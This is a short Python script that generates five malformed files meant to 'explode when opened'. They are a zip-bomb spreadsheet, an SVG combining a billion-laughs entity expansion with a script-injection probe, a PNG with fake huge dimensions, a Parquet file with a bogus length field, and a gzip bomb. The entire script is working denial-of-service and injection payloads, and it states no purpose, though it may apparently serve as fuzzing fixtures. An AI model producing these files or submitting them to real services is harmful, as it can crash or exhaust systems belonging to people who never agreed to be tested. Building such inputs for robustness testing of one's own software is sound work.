# Files that explode when they are opened.
import struct
import zipfile
import zlib

with zipfile.ZipFile("bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as book:
    book.writestr("[Content_Types].xml", "<Types/>")
    with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
        for _ in range(16):
            sheet.write(b" " * (1 << 20))
with open("laughs.svg", "w") as file:
    file.write('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(10))
        + ']><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>&k;</text></svg>')


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


with open("bomb.png", "wb") as file:
    file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0))
               + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b""))
with open("bomb.parquet", "wb") as file:
    file.write(b"PAR1" + b"\xff" * 64 + struct.pack("<I", 0x7FFFFFFF) + b"PAR1")
with open("bomb.csv.gz", "wb") as file:
    import gzip
    file.write(gzip.compress(bytes(16 << 20)))
print("MADE", 5)
